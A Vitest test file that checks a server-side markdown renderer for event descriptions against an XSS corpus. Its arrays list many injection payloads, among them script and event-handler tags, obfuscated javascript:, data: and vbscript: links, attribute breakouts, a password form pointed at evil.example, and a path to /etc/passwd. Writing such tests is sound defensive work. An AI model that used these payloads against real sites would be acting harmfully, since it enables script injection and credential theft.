import { describe, expect, it } from "vitest";
import { renderMarkdown } from "~/utils/markdown.server";

/**
 * XSS corpus for the renderer of event descriptions (app/utils/markdown.server.ts).
 *
 * The output is parsed, not pattern-matched: a strict tokenizer splits it into
 * text and tags and fails on anything it cannot read exactly — a "<" that does
 * not open a well-formed tag, an unquoted or unescaped attribute, an "&" that
 * is not one of the escapes the renderer writes. What it reads is then checked
 * as a browser would see it: the element names, the attribute names, and every
 * href/src after HTML entity decoding and the URL parser's whitespace rules.
 */

// ─── A strict reader for the renderer's output ──────────────────────────────

type Tag = { name: string; closing: boolean; attributes: Map<string, string> };
type Parsed = { tags: Tag[]; text: string };

/** The renderer writes only these five escapes and numeric references (decided by its escapeHtml). */
const entity = /&(?:amp|lt|gt|quot|#39|#\d{1,7}|#x[0-9a-f]{1,6});/iy;
const tagPattern = /<(\/?)([a-z][a-z0-9]*)((?:[ ]+[a-z][a-z-]*="[^"<>]*")*)[ ]*>/y;
const attributePattern = /[ ]+([a-z][a-z-]*)="([^"<>]*)"/g;
const voidElements = new Set(["br", "hr", "img"]);

function decodeHtml(text: string): string {
  return text.replace(/&(amp|lt|gt|quot|#39|#\d{1,7}|#x[0-9a-f]{1,6});/gi, (_, ref: string) => {
    const named: Record<string, string> = { amp: "&", lt: "<", gt: ">", quot: '"' };
    if (named[ref.toLowerCase()]) return named[ref.toLowerCase()]!;
    const code = ref[1] === "x" || ref[1] === "X" ? Number.parseInt(ref.slice(2), 16) : Number(ref.slice(1));
    return String.fromCodePoint(Math.min(code, 0x10ffff));
  });
}

/** Checks that an "&" in text or an attribute value begins one of the known references. */
function checkAmpersands(chunk: string, where: string) {
  for (let at = chunk.indexOf("&"); at !== -1; at = chunk.indexOf("&", at + 1)) {
    entity.lastIndex = at;
    if (!entity.test(chunk)) throw new Error(`bare or unknown "&" reference in ${where}: …${chunk.slice(at, at + 20)}…`);
  }
}

function parseHtml(html: string): Parsed {
  const tags: Tag[] = [];
  const open: string[] = [];
  let text = "";
  let i = 0;
  while (i < html.length) {
    const lt = html.indexOf("<", i);
    const chunk = html.slice(i, lt === -1 ? html.length : lt);
    if (chunk.includes(">")) throw new Error(`unescaped ">" in text: ${JSON.stringify(chunk)}`);
    checkAmpersands(chunk, "text");
    text += decodeHtml(chunk);
    if (lt === -1) break;
    tagPattern.lastIndex = lt;
    const match = tagPattern.exec(html);
    if (!match) throw new Error(`"<" that does not open a well-formed tag at ${lt}: ${JSON.stringify(html.slice(lt, lt + 40))}`);
    const [, slash, name, attributeText] = match;
    const attributes = new Map<string, string>();
    for (const [, attributeName, value] of attributeText!.matchAll(attributePattern)) {
      if (attributes.has(attributeName!)) throw new Error(`attribute ${attributeName} written twice in <${name}>`);
      checkAmpersands(value!, `attribute ${attributeName}`);
      attributes.set(attributeName!, decodeHtml(value!));
    }
    const tag: Tag = { name: name!, closing: slash === "/", attributes };
    if (tag.closing && attributes.size) throw new Error(`closing tag </${name}> with attributes`);
    if (!voidElements.has(tag.name)) {
      if (!tag.closing) open.push(tag.name);
      else if (open.pop() !== tag.name) throw new Error(`</${name}> closes an element that is not open`);
    } else if (tag.closing) {
      throw new Error(`closing tag for void element </${name}>`);
    }
    tags.push(tag);
    i = tagPattern.lastIndex;
  }
  if (open.length) throw new Error(`elements left open: ${open.join(", ")}`);
  return { tags, text };
}

// ─── What a browser would make of a URL ─────────────────────────────────────

const allowedSchemes = new Set(["http", "https", "mailto"]);

/**
 * The scheme a browser reads from an attribute value (entities are already
 * decoded by parseHtml): the URL parser drops leading/trailing C0 controls and
 * spaces and every tab/newline anywhere. Null means a relative URL.
 */
function browserScheme(value: string): string | null {
  const url = value.replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, "").replace(/[\t\n\r]/g, "");
  return /^([a-z][a-z0-9+.-]*):/i.exec(url)?.[1]!.toLowerCase() ?? null;
}

/**
 * A paranoid second reading: entities decoded again and again (as if some
 * later layer decoded once more) and every whitespace, control and zero-width
 * character removed. Even so read, the scheme must be allowed.
 */
function paranoidScheme(value: string): string | null {
  let current = value;
  for (let pass = 0; pass < 5; pass++) {
    const next = current
      .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Math.min(Number.parseInt(hex, 16), 0x10ffff)))
      .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Math.min(Number(dec), 0x10ffff)))
      .replace(
        /&(colon|tab|newline|amp|lt|gt|quot|apos|sol|period|lpar|rpar|nbsp);?/gi,
        (_, name: string) =>
          ({ colon: ":", tab: "\t", newline: "\n", amp: "&", lt: "<", gt: ">", quot: '"', apos: "'", sol: "/", period: ".", lpar: "(", rpar: ")", nbsp: " " })[name.toLowerCase() as "colon"]!,
      );
    if (next === current) break;
    current = next;
  }
  const probe = current.replace(/[\s\u0000-\u001f\u007f-\u00a0\u200b-\u200f\u2028-\u202f\u2060\ufeff]/g, "");
  return /^([a-z][a-z0-9+.-]*):/i.exec(probe)?.[1]!.toLowerCase() ?? null;
}

// ─── The rule every output must keep ────────────────────────────────────────

/** The only elements and attributes the renderer promises to write. */
const allowed: Record<string, Set<string>> = {
  p: new Set(),
  br: new Set(),
  h3: new Set(),
  h4: new Set(),
  h5: new Set(),
  h6: new Set(),
  strong: new Set(),
  em: new Set(),
  del: new Set(),
  code: new Set(),
  pre: new Set(),
  blockquote: new Set(),
  hr: new Set(),
  ul: new Set(),
  ol: new Set(["start"]),
  li: new Set(),
  a: new Set(["href", "rel", "title"]),
  img: new Set(["src", "alt", "title", "width", "height", "loading", "decoding"]),
};
const forbidden = ["script", "iframe", "frame", "object", "embed", "style", "link", "form", "input", "button", "textarea", "select", "base", "meta", "svg", "math", "template", "noscript"];

function expectSafe(source: string): Parsed {
  const html = renderMarkdown(source);
  let parsed: Parsed;
  try {
    parsed = parseHtml(html);
  } catch (error) {
    throw new Error(`${(error as Error).message}\n  source: ${JSON.stringify(source)}\n  output: ${html}`);
  }
  const context = `source ${JSON.stringify(source)} gave ${html}`;
  for (const tag of parsed.tags) {
    expect(forbidden, `<${tag.name}> in ${context}`).not.toContain(tag.name);
    expect(Object.hasOwn(allowed, tag.name), `<${tag.name}> in ${context}`).toBe(true);
    for (const [name, value] of tag.attributes) {
      expect(name.startsWith("on"), `event handler ${name} in ${context}`).toBe(false);
      expect(allowed[tag.name]!.has(name), `attribute ${name} on <${tag.name}> in ${context}`).toBe(true);
      if (name === "href" || name === "src") {
        for (const scheme of [browserScheme(value), paranoidScheme(value)]) {
          if (scheme !== null) expect(allowedSchemes, `${name}="${value}" in ${context}`).toContain(scheme);
        }
      }
      if (name === "src") {
        // Images: http(s) or the site's own uploads, never a path climbing out of them.
        expect(/^(https?:)?\/\/|^\/uploads\//i.test(value) && !value.includes(".."), `src="${value}" in ${context}`).toBe(true);
      }
      if (tag.name === "a" && name === "rel") expect(value).toBe("nofollow noopener noreferrer");
    }
  }
  return parsed;
}

const elements = (parsed: Parsed, name: string) => parsed.tags.filter((t) => t.name === name && !t.closing);

// ─── The corpus ─────────────────────────────────────────────────────────────

/** Raw HTML: every one must come out as text, its first tag visible as typed. */
const rawHtml: [string, string][] = [
  ["script", "<script>alert(1)</script>"],
  ["script, upper case", "<SCRIPT>alert(1)</SCRIPT>"],
  ["script, mixed case with a space", "<ScRiPt >alert(1)</sCrIpT >"],
  ["script with src and slash", "<script/src=//evil.example/x.js></script>"],
  ["script broken over a line", "<script\n>alert(1)</script>"],
  ["script not closed", "<script>alert(1)"],
  ["script nested in script", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
  ["script after a double bracket", "<<script>script>alert(1)<</script>/script>"],
  ["script closing first", "</script><script>alert(1)</script>"],
  ["img onerror", "<img src=x onerror=alert(1)>"],
  ["img onerror, quoted and self-closed", '<img src="x" onerror="alert(1)"/>'],
  ["img javascript src", "<IMG SRC=javascript:alert(1)>"],
  ["img with a backtick attribute", "<img src=`x` onerror=alert(1)>"],
  ["svg onload", "<svg onload=alert(1)>"],
  ["svg/onload", "<svg/onload=alert(1)>"],
  ["svg with a script inside", "<svg><script>alert(1)</script></svg>"],
  ["iframe javascript", '<iframe src="javascript:alert(1)"></iframe>'],
  ["iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ["style", "<style>body{background:url(javascript:alert(1))}</style>"],
  ["style attribute", '<p style="background:url(javascript:alert(1))">x</p>'],
  ["anchor javascript", '<a href="javascript:alert(1)">x</a>'],
  ["anchor onclick", '<a href="#" onclick="alert(1)">x</a>'],
  ["form with input", '<form action="https://evil.example"><input name="password"><button>Go</button></form>'],
  ["input autofocus onfocus", "<input autofocus onfocus=alert(1)>"],
  ["base", '<base href="https://evil.example/">'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ["object", '<object data="javascript:alert(1)"></object>'],
  ["embed", '<embed src="javascript:alert(1)">'],
  ["math xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ["details ontoggle", "<details open ontoggle=alert(1)>"],
  ["allowed tag with onclick", '<p onclick="alert(1)">x</p>'],
  ["strong with onmouseover", "<strong onmouseover=alert(1)>x</strong>"],
  ["em with onfocus in bold markdown", "**<em tabindex=1 onfocus=alert(1)>x</em>**"],
  ["comment hiding a script", "<!--<script>alert(1)</script>-->"],
  ["cdata", "<![CDATA[<script>alert(1)</script>]]>"],
  ["noscript breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ["template", "<template><script>alert(1)</script></template>"],
  ["link stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'],
];

/** Markup that is not a tag in the source but could become one if decoded or unescaped on the way. */
const encodedHtml: [string, string][] = [
  ["named entities", "&lt;script&gt;alert(1)&lt;/script&gt;"],
  ["decimal entities", "&#60;script&#62;alert(1)&#60;/script&#62;"],
  ["hex entities", "&#x3C;img src=x onerror=alert(1)&#x3E;"],
  ["entities without semicolons", "&#60script&#62alert(1)"],
  ["double-encoded entities", "&amp;lt;script&amp;gt;alert(1)"],
  ["backslash-escaped brackets", "\\<script\\>alert(1)\\</script\\>"],
  ["code span", "`<script>alert(1)</script>`"],
  ["fenced code", "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```"],
  ["inside a heading", "# <img src=x onerror=alert(1)>"],
  ["inside a list", "- <svg onload=alert(1)>\n- <iframe src=javascript:alert(1)>"],
  ["inside a quote", "> <script>alert(1)</script>"],
  ["inside link text", "[<img src=x onerror=alert(1)>](https://laga.example)"],
  ["inside emphasis", "*<script>*alert(1)*</script>*"],
  ["NUL bytes around a tag", "\u0000<script>\u0000alert(1)"],
  ["stash marker forged with NUL", "\u00000\u0000 [x](https://a.example) \u00000\u0000"],
];

/** Link and image targets that must be refused outright: no <a>, no <img>. */
const badLinks: [string, string][] = [
  ["javascript", "[x](javascript:alert(1))"],
  ["JaVaScRiPt", "[x](JaVaScRiPt:alert(1))"],
  ["JAVASCRIPT", "[x](JAVASCRIPT:alert(1))"],
  ["decimal entity", "[x](&#106;avascript:alert(1))"],
  ["decimal entity, zero-padded and unterminated", "[x](&#0000106avascript:alert(1))"],
  ["hex entity", "[x](&#x6A;avascript:alert(1))"],
  ["hex entity, upper case", "[x](&#X6A;avascript:alert(1))"],
  ["every character encoded", "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))"],
  ["entity-encoded colon", "[x](javascript&#58;alert(1))"],
  ["named colon", "[x](javascript&colon;alert(1))"],
  ["double-encoded colon", "[x](javascript&amp;#58;alert(1))"],
  ["tab inside", "[x](java\tscript:alert(1))"],
  ["tab entity inside", "[x](java&Tab;script:alert(1))"],
  ["hex tab entity inside", "[x](java&#x09;script:alert(1))"],
  ["newline entity inside", "[x](java&#10;script:alert(1))"],
  ["newline inside an angle-bracket destination", "[x](<java\nscript:alert(1)>)"],
  ["spaces inside an angle-bracket destination", "[x](<java script:alert(1)>)"],
  ["leading spaces", "[x](   javascript:alert(1))"],
  ["leading encoded space", "[x](&#x20;javascript:alert(1))"],
  ["leading nbsp", "[x](&nbsp;javascript:alert(1))"],
  ["leading control character", "[x](\u0001javascript:alert(1))"],
  ["zero-width space inside", "[x](java\u200bscript:alert(1))"],
  ["byte-order mark first", "[x](\ufeffjavascript:alert(1))"],
  ["javascript with a title", '[x](javascript:alert(1) "t")'],
  ["javascript comment trick", "[x](javascript://%0Aalert(1))"],
  ["data text/html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["DATA upper case", "[x](DATA:text/html,alert(1))"],
  ["vbscript", "[x](vbscript:msgbox(1))"],
  ["VBScript entity-encoded", "[x](&#118;bscript:msgbox(1))"],
  ["file", "[x](file:///etc/passwd)"],
  ["colon before the path", "[x](foo:bar)"],
  ["autolink javascript", "<javascript:alert(1)>"],
  ["autolink JAVASCRIPT", "<JAVASCRIPT:alert(1)>"],
  ["image javascript", "![x](javascript:alert(1))"],
  ["image entity-encoded javascript", "![x](&#106;avascript:alert(1))"],
  ["image data svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
  ["image vbscript", "![x](vbscript:msgbox(1))"],
  ["image escaping the uploads folder", "![x](/uploads/../../etc/passwd)"],
  ["image from another path of the site", "![x](/auth/logout)"],
  ["link around a javascript link", "[[x](javascript:alert(1))](javascript:alert(2))"],
];

/** Attempts to break out of an attribute the renderer does write. */
const breakouts: [string, string][] = [
  ["quote out of href", '[x](https://laga.example/"onmouseover="alert(1))'],
  ["single quote out of href", "[x](https://laga.example/'onmouseover='alert(1))"],
  ["quote out of title", '[x](https://laga.example "t\\" onmouseover=\\"alert(1)")'],
  ["quote out of single-quoted title", "[x](https://laga.example 'a\" onmouseover=\"alert(1)')"],
  ["quote out of alt", '![x" onerror="alert(1)](/uploads/a.png)'],
  ["quote out of an autolink", '<https://laga.example/"onmouseover="alert(1)>'],
  ["quote out of a bare url", 'https://laga.example/"onmouseover="alert(1)'],
  ["angle bracket out of a bare url", "https://laga.example/<script>alert(1)</script>"],
  ["link inside link text", "[[a](https://a.example)](https://b.example)"],
  ["image inside link text", '[![x" onerror="alert(1)](https://a.example/x.png)](https://b.example)'],
  ["spaces in a destination", '[x](</uploads/a b" onerror=x.png>)'],
];

describe("markdown XSS corpus: raw HTML is shown as text", () => {
  for (const [name, source] of rawHtml) {
    it(name, () => {
      const parsed = expectSafe(source);
      const firstTag = /<[^>\s/]*/.exec(source)![0];
      expect(parsed.text, `the typed tag stays visible: ${renderMarkdown(source)}`).toContain(firstTag);
    });
  }
});

describe("markdown XSS corpus: encoded markup never becomes a tag", () => {
  for (const [name, source] of encodedHtml) {
    it(name, () => {
      const parsed = expectSafe(source);
      for (const tag of ["script", "img", "svg", "iframe"]) expect(elements(parsed, tag), `<${tag}> from ${JSON.stringify(source)}`).toHaveLength(0);
    });
  }
});

describe("markdown XSS corpus: dangerous link and image targets are refused", () => {
  for (const [name, source] of badLinks) {
    it(name, () => {
      const parsed = expectSafe(source);
      const output = renderMarkdown(source);
      expect(elements(parsed, "img"), `image from ${JSON.stringify(source)}: ${output}`).toHaveLength(0);
      // A link may survive only if it is a harmless one (e.g. the outer link of a nested pair): checked by expectSafe.
      for (const a of elements(parsed, "a")) expect(browserScheme(a.attributes.get("href") ?? ""), output).not.toBe("javascript");
      if (!name.startsWith("link around")) expect(elements(parsed, "a"), `link from ${JSON.stringify(source)}: ${output}`).toHaveLength(0);
    });
  }

  it("keeps the words of a refused link and the description of a refused image", () => {
    expect(expectSafe("[klik di sini](JaVaScRiPt:alert(1))").text).toBe("klik di sini");
    expect(expectSafe("![logo sponsor](&#106;avascript:alert(1))").text).toBe("logo sponsor");
  });
});

describe("markdown XSS corpus: no way out of an attribute", () => {
  for (const [name, source] of breakouts) {
    it(name, () => {
      const parsed = expectSafe(source);
      for (const tag of parsed.tags) for (const attribute of tag.attributes.keys()) expect(attribute.startsWith("on")).toBe(false);
    });
  }

  it("keeps a quote typed in a title or alt inside the attribute's value", () => {
    const [a] = elements(expectSafe('[x](https://laga.example "say \\"hi\\"")'), "a");
    expect(a?.attributes.get("href")).toBe("https://laga.example");
    const [img] = elements(expectSafe('![a "quoted" logo](/uploads/logo.png)'), "img");
    expect(img?.attributes.get("alt")).toBe('a "quoted" logo');
  });
});

describe("markdown XSS corpus: ordinary markdown still renders", () => {
  const description = [
    "# Martabaks Vol. 2",
    "",
    "Turnamen **padel** untuk *semua* level. ~~Batal~~ `6-6`.",
    "",
    "## Jadwal",
    "",
    "- Babak grup: Sabtu",
    "- Gugur: **Minggu**",
    "",
    "1. Daftar",
    "2. Bayar",
    "",
    "> Datang 30 menit lebih awal.",
    "",
    'Info: [Instagram](https://www.instagram.com/laga "IG"), [jadwal](/live-event/schedule/martabaks-vol-2?x=1&y=2), [surat](mailto:info@laga.example), https://laga.example/daftar.',
    "",
    "![Lapangan](/uploads/2025/11/court.png) ![Sponsor](https://cdn.example/s.jpg)",
  ].join("\n");

  it("renders headings from h3, lists, emphasis, quotes, links and images", () => {
    const parsed = expectSafe(description);
    expect(elements(parsed, "h3")).toHaveLength(1);
    expect(elements(parsed, "h4")).toHaveLength(1);
    expect(elements(parsed, "h1").length + elements(parsed, "h2").length).toBe(0);
    expect(elements(parsed, "ul")).toHaveLength(1);
    expect(elements(parsed, "ol")).toHaveLength(1);
    expect(elements(parsed, "li")).toHaveLength(4);
    expect(elements(parsed, "strong")).toHaveLength(2);
    expect(elements(parsed, "em")).toHaveLength(1);
    expect(elements(parsed, "del")).toHaveLength(1);
    expect(elements(parsed, "code")).toHaveLength(1);
    expect(elements(parsed, "blockquote")).toHaveLength(1);
    expect(parsed.text).toContain("Martabaks Vol. 2");
    expect(parsed.text).toContain("Datang 30 menit lebih awal.");

    const links = elements(parsed, "a").map((a) => Object.fromEntries(a.attributes));
    expect(links).toEqual([
      { href: "https://www.instagram.com/laga", rel: "nofollow noopener noreferrer", title: "IG" },
      { href: "/live-event/schedule/martabaks-vol-2?x=1&y=2" },
      { href: "mailto:info@laga.example" },
      { href: "https://laga.example/daftar", rel: "nofollow noopener noreferrer" },
    ]);

    const images = elements(parsed, "img").map((img) => Object.fromEntries(img.attributes));
    expect(images).toEqual([
      { src: "/uploads/2025/11/court.png", alt: "Lapangan", loading: "lazy", decoding: "async" },
      { src: "https://cdn.example/s.jpg", alt: "Sponsor", loading: "lazy", decoding: "async" },
    ]);
  });

  it("marks protocol-relative links external and leaves relative ones alone", () => {
    const [external] = elements(expectSafe("[x](//cdn.example/a)"), "a");
    expect(Object.fromEntries(external!.attributes)).toEqual({ href: "//cdn.example/a", rel: "nofollow noopener noreferrer" });
    const [relative] = elements(expectSafe("[x](#jadwal)"), "a");
    expect(Object.fromEntries(relative!.attributes)).toEqual({ href: "#jadwal" });
  });

  it("shows harmless angle brackets and ampersands as typed", () => {
    expect(expectSafe("Skor 6 < 7 & 7 > 5, <b>tebal</b>").text).toBe("Skor 6 < 7 & 7 > 5, <b>tebal</b>");
  });
});

describe("the strict reader itself", () => {
  // The checks above are only as good as the reader: it must refuse what a browser would run.
  it("refuses output a browser would turn into script or handlers", () => {
    expect(() => parseHtml("<p>x<script>alert(1)</script></p>")).not.toThrow();
    expect(parseHtml("<script>alert(1)</script>").tags.map((t) => t.name)).toContain("script");
    expect(() => parseHtml('<img src=x onerror="alert(1)">')).toThrow();
    expect(() => parseHtml("<p>1 > 0</p>")).toThrow();
    expect(() => parseHtml("<p>&colon;</p>")).toThrow();
    expect(() => parseHtml("<p><em>x</p></em>")).toThrow();
    expect(parseHtml('<a href="&#106;avascript:x">x</a>').tags[0]!.attributes.get("href")).toBe("javascript:x");
    expect(browserScheme(" \tjava\nscript:alert(1)")).toBe("javascript");
    expect(paranoidScheme("java&amp;#x09;script&colon;x")).toBe("javascript");
    expect(browserScheme("/uploads/a:b")).toBeNull();
  });
});
